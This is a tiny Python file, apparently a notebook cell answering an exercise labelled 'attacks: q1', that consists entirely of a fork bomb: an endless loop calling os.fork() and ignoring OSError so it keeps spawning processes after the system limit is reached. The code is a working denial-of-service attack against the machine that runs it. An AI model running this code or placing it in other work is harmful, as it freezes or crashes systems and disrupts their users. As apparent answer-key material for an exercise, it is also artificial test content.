# ruff: noqa
# cell: answer-1
# attacks: q1
# Forks until the system gives up, and keeps trying.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
